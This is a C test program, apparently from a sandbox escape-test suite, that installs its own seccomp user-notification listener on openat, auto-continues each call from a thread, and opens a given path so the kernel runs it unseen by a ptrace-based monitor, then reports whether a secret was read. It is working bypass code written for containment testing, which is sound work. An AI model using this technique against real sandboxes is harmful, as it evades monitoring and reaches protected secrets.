/* SPDX-License-Identifier: GPL-2.0-only */
/*
 * listener PATH: install a seccomp filter of our own that sends openat to
 * a listener we hold (SECCOMP_RET_USER_NOTIF outranks SECCOMP_RET_TRACE),
 * answer SECCOMP_USER_NOTIF_FLAG_CONTINUE from a thread, and open PATH:
 * the kernel then runs the call with our raw path, unseen by the monitor.
 */
#define _GNU_SOURCE
#include <fcntl.h>
#include <pthread.h>
#include <stddef.h>
#include <unistd.h>
#include <sys/ioctl.h>
#include <sys/prctl.h>
#include <sys/syscall.h>
#include <linux/filter.h>
#include <linux/seccomp.h>

#include "hostile.h"

static void *answer(void *arg)
{
	int lfd = *(int *)arg;
	struct seccomp_notif req;
	struct seccomp_notif_resp resp;

	for (;;) {
		memset(&req, 0, sizeof(req));
		if (ioctl(lfd, SECCOMP_IOCTL_NOTIF_RECV, &req) < 0)
			return NULL;
		memset(&resp, 0, sizeof(resp));
		resp.id = req.id;
		resp.flags = SECCOMP_USER_NOTIF_FLAG_CONTINUE;
		ioctl(lfd, SECCOMP_IOCTL_NOTIF_SEND, &resp);
	}
}

int main(int argc, char **argv)
{
	struct sock_filter insns[] = {
		BPF_STMT(BPF_LD | BPF_W | BPF_ABS, offsetof(struct seccomp_data, nr)),
		BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, __NR_openat, 0, 1),
		BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_USER_NOTIF),
		BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW),
	};
	struct sock_fprog prog = { sizeof(insns) / sizeof(insns[0]), insns };
	pthread_t t;
	char buf[256] = "";
	int lfd, fd;
	ssize_t n;

	if (argc != 2)
		return 2;
	prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0);
	lfd = (int)syscall(__NR_seccomp, SECCOMP_SET_MODE_FILTER,
			   SECCOMP_FILTER_FLAG_NEW_LISTENER, &prog);
	if (lfd < 0) {
		held("seccomp NEW_LISTENER", errno);
		return hostile_done();
	}
	if (pthread_create(&t, NULL, answer, &lfd))
		setup_failed("pthread_create");
	fd = (int)syscall(__NR_openat, AT_FDCWD, argv[1], O_RDONLY);
	if (fd < 0) {
		held("openat behind our own listener", errno);
		return hostile_done();
	}
	n = read(fd, buf, sizeof(buf) - 1);
	if (n > 0 && has_secret(buf))
		escaped("openat behind our own listener read %s", argv[1]);
	else
		printf("opened %s, no secret\n", argv[1]);
	return hostile_done();
}
